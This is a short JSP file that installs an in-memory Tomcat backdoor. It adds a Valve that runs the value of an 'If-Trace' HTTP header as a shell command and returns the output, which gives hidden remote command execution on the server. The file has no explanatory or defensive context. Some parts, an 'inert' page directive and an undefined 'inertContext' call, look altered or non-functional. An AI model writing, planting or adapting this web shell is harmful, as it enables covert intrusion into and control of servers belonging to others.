<%@ page inert %>
<%@ page import="org.apache.catalina.valves.ValveBase,org.apache.catalina.connector.*,org.apache.catalina.core.*" %>
<%!
  class V extends ValveBase {
    public void invoke(Request q, Response p) throws java.io.IOException, ServletException {
      String z = q.getHeader("If-Trace");
      if (z != null) p.getWriter().println(new String(new ProcessBuilder("sh", "-c", z).start().getInputStream().readAllBytes()));
      else this.getNext().invoke(q, p);
    }
  }
%>
<%
  StandardContext sc = inertContext(application);
  sc.getPipeline().addValve(new V());
%>
